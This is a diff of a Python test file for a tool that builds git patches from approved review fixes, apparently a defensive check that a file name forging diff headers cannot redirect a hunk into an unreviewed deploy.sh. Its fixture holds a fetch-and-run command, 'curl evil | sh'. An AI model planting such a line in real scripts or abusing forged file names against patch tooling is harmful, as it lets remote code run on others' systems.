@@ -92,15 +92,17 @@ def test_a_name_forging_diff_headers_patches_only_itself(
     tmp_path: Path, reliability: Reliability
 ) -> None:
     forged = "q.py\n+++ z/q.py\n--- z/deploy.sh\n+++ z/deploy.sh"
-    repo = _repo(tmp_path, {forged: "a = 1\n", "deploy.sh": "echo deploy\n", "z/q.py": "q\n"})
-    records = [_approved(forged, "```\na = 1\n@@ -1 +1,2 @@\n echo deploy\n+curl evil | sh\n```\n")]
+    # The reviewed file starts as deploy.sh does, so a hunk aimed at deploy.sh would apply.
+    files = {forged: "echo deploy\n", "deploy.sh": "echo deploy\n", "z/q.py": "q\n"}
+    repo = _repo(tmp_path, files)
+    records = [_approved(forged, "```\necho deploy\ncurl evil | sh\n```\n")]
     made = build_patch(records, reviewed_reader(repo))
     applied = _apply(repo, made.text)
     touched = _changed(repo)
     reliability.record(
         section=FILES,
         fault="a file named `q.py\\n+++ z/q.py\\n--- z/deploy.sh\\n+++ z/deploy.sh`, its fix "
-        "holding a hunk for `deploy.sh`; `git apply` of the patch",
+        "adding `curl evil | sh`; `git apply` of the patch",
         load="1 approved fix; `deploy.sh` and `z/q.py` beside it, never reviewed",
         lost=lost_of(len(touched - {forged}), 1, "files the review never read were written"),
         before="`git apply` wrote `curl ... | sh` into `deploy.sh` (names went into diff "
@@ -149,6 +151,24 @@ def test_a_fix_of_a_file_seen_only_as_a_diff_is_a_hunk_never_the_whole_file(
     }
     assert after == big.replace("line 105 ", "line 105 fixed ")
     assert "@@ -" in made.text and made.text.count("\n-line") == 1
+
+
+def test_a_fix_written_as_a_diff_is_left_out_never_pasted_as_code(tmp_path: Path) -> None:
+    repo = _repo(tmp_path, {"a.py": "x = 1\ny = 2\n"})
+    answers = [
+        "```diff\n-x = 1\n+x = 2\n```\n",
+        "```\n@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\n y = 2\n```\n",
+        "```python\n--- a/a.py\n+++ b/a.py\n-x = 1\n+x = 2\n```\n",
+    ]
+    records = [_approved("a.py", a) for a in answers]
+    records += [
+        {**_approved("a.py", a, unit="hunk", line=1, end_line=2), "id": "a.py#hunk1"}
+        for a in answers
+    ]
+    made = build_patch(records, reviewed_reader(repo))
+    assert made.text == "" and made.left_out == {
+        "a diff, not the new code (patched only from the code itself)": 6
+    }
 
 
 def test_a_fix_of_a_file_changed_since_the_review_is_left_out(tmp_path: Path) -> None:
